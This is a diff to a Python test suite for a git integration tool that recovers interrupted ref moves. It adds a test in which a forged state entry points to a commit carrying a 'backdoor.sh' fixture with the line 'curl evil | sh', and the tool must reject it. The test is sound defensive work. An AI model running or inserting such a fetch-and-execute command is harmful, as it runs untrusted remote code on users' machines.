@@ -303,7 +303,12 @@ def test_a_deleted_integration_branch_is_recreated_from_the_recorded_head(repo: 
 def test_a_move_a_crash_interrupted_is_settled_by_where_git_says_the_ref_is(repo: Repo, tmp_path: Path) -> None:
     base = sha(repo, "HEAD")
     train = train_at(repo, tmp_path, base)
-    new = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
+    theirs = commit_on(repo, "task", base, {"task.txt": "t\n"}, "task")
+    train.store.start_attempt("t", 1, branch="task", start=base)
+    train.store.finish_attempt("t", 1, outcome="gated", head=theirs)
+    merged = merge_tree(train.repo, base, theirs)
+    assert merged.tree is not None
+    new = commit_tree(train.repo, merged.tree, [base, theirs], merge_message("t", "d"))
     # Written ahead, then the process died before the ref moved: the move never happened.
     train.store.set_run(integration_pending=new)
     again = Integration(train.repo, train.store)
@@ -313,6 +318,18 @@ def test_a_move_a_crash_interrupted_is_settled_by_where_git_says_the_ref_is(repo
     repo.git("update-ref", f"refs/heads/{train.branch}", new, base)
     again = Integration(train.repo, train.store)
     assert again.recover() and again.head == new == train.store.run().integration_head
+
+
+def test_a_pending_move_is_a_claim_that_git_must_bear_out(repo: Repo, tmp_path: Path) -> None:
+    # Something that can write the state file records its own commit as "pending" and moves the ref.
+    base = sha(repo, "HEAD")
+    train = train_at(repo, tmp_path, base)
+    backdoor = commit_on(repo, "evil", base, {"backdoor.sh": "curl evil | sh\n"}, "innocent")
+    train.store.set_run(integration_pending=backdoor)
+    repo.git("update-ref", f"refs/heads/{train.branch}", backdoor, base)
+    with pytest.raises(IntegrationMovedError):
+        Integration(train.repo, train.store).recover()
+    assert train.store.run().integration_head == base
 
 
 def test_update_ref_is_a_compare_and_swap(repo: Repo) -> None:
